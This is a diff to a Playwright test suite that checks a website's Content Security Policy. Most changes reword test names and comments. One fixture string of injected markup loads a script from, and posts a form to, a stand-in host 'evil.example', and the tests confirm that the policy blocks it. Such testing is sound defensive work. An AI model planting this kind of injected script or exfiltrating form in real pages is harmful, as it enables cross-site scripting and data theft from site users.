@@ -13,7 +13,10 @@ const main = (page: Page) => page.getByRole('main');
 const service = '/services/immigrate/express-entry';
 
 for (const { path, status } of swept(destinations, (route) => differing.has(route.path))) {
-  test(`${path} comes alive, is styled and is left under its policy`, async ({ page, watch }) => {
+  test(`${path} hydrates and is styled under its policy, and navigating away works`, async ({
+    page,
+    watch,
+  }) => {
     if (status !== 200) watch.allowFailure(path);
     const stopped = await watchPolicy(page);
     const answer = await open(page, path);
@@ -23,7 +26,7 @@ for (const { path, status } of swept(destinations, (route) => differing.has(rout
     expect(await unstyled(page)).toEqual([]);
     const accept = page.getByRole('button', { name: 'I Accept' });
     if (await accept.isVisible()) await accept.click();
-    // To a page whose styles and rich text this document did not bring.
+    // Navigate to a page with styles and rich text that this document does not have.
     const documents = documentsOf(page);
     const [link, heading] =
       path === '/privacy-policy' ? ['About', 'About'] : ['Privacy policy', 'Privacy Policy'];
@@ -36,7 +39,7 @@ for (const { path, status } of swept(destinations, (route) => differing.has(rout
   });
 }
 
-test('the policy holds while the site is used: menu, carousel, post, sharing, questions, form, dialog', async ({
+test('no policy violation occurs in use: menu, carousel, post, sharing, questions, form, dialog', async ({
   page,
   context,
 }) => {
@@ -93,7 +96,7 @@ test('the policy holds while the site is used: menu, carousel, post, sharing, qu
   expect(await stopped()).toEqual([]);
 });
 
-/** What gets into a page past every check, and what each would do. */
+/** Injected content that passes every other check, with the effect it would have. */
 const injected = `
   <script>document.documentElement.dataset.ran = 'script'</script>
   <script src="https://evil.example/x.js"></script>
@@ -108,11 +111,11 @@ const injected = `
   <object data="/about"></object>
   <form id="planted-form" action="https://evil.example/take"><input name="a" value="b"></form>`;
 
-/** A page whose complaints are what is asked for: the console and the network of `test` are to be quiet. */
+/** A page whose violations are expected: our `test` requires a quiet console and network. */
 const tried = async (browser: Browser, baseURL: string | undefined): Promise<Page> =>
   (await browser.newContext(baseURL ? { baseURL } : {})).newPage();
 
-test('what is injected into a page does not run, style it, frame, or send anything elsewhere', async ({
+test('injected content cannot run, style the page, frame it, or send anything elsewhere', async ({
   browser,
   baseURL,
 }) => {
@@ -122,7 +125,7 @@ test('what is injected into a page does not run, style it, frame, or send anythi
     const html = await response.text();
     await route.fulfill({ response, body: html.replace('<div id="root">', `${injected}$&`) });
   });
-  // There is something elsewhere to come: without an answer nobody would notice that the policy let a request go.
+  // Answer requests to the other host: without an answer, a request that the policy allowed would go unnoticed.
   await page.route('https://evil.example/**', (route) =>
     route.request().resourceType() === 'stylesheet'
       ? route.fulfill({ contentType: 'text/css', body: '#root{outline:7px solid red}' })
@@ -164,7 +167,7 @@ test('what is injected into a page does not run, style it, frame, or send anythi
   await page.context().close();
 });
 
-test('no text becomes markup or a script but through the one policy for rich text', async ({
+test('text becomes markup or script only through the one policy for rich text', async ({
   browser,
   baseURL,
 }) => {
@@ -212,8 +215,8 @@ test('no text becomes markup or a script but through the one policy for rich tex
 });
 
 test('no other site can show a page of this one in a frame', async ({ browser, baseURL }) => {
-  // A server of its own: what a test puts in the place of an answer lies outside the machine for Chromium, which would keep
-  // its pages from addresses within whatever the site says.
+  // Use a real server. Chromium treats answers that a test provides as coming from outside this machine. It would block access
+  // to local pages whatever the site's headers say.
   const elsewhere = createServer((_request, response) => {
     response.setHeader('content-type', 'text/html');
     response.end(`<iframe src="${baseURL}/about" onload="document.title = 'tried'"></iframe>`);
@@ -225,7 +228,7 @@ test('no other site can show a page of this one in a frame', async ({ browser, b
   try {
     const refusals: (string | undefined)[] = [];
     page.on('requestfailed', (request) => {
-      // Chromium also reports the refusal to the site, whose answer it keeps from the other one.
+      // Chromium also reports the refusal to the site, and hides the answer from the other page.
       if (request.isNavigationRequest()) refusals.push(request.failure()?.errorText);
     });
     await page.goto(`http://127.0.0.1:${port}/`);
